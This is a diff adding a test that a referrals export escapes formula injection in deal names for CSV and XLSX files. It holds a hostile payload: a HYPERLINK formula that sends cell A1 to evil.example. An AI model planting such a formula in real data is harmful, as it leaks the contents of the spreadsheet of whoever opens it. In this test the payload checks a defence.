@@ -347,6 +347,20 @@ def test_the_export_has_the_filtered_rows_in_csv_and_xlsx(client, alice):
     assert [row[0] for row in sheet.iter_rows(values_only=True)] == ["Deal name", "Tagged deal"]
 
 
+def test_the_export_writes_a_formula_in_a_deal_name_as_text(client, alice):
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+    create_referral(actor=alice, name=formula)
+    client.force_login(alice)
+    csv = client.get("/api/v1/referrals/export")
+    text = b"".join(csv.streaming_content).decode()
+    assert text.splitlines()[1].startswith('"\'=HYPERLINK(""http://evil.example')
+    xlsx = client.get("/api/v1/referrals/export?format=xlsx")
+    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
+    cell = sheet["A2"]
+    assert cell.data_type == "s"
+    assert cell.value == "'" + formula
+
+
 def test_the_list_filters_by_tab_and_orders(client, sam, northwind, alice):
     send_referral(actor=sam, partner=northwind, name="Inbound one")
     create_referral(actor=alice, name="B outbound")
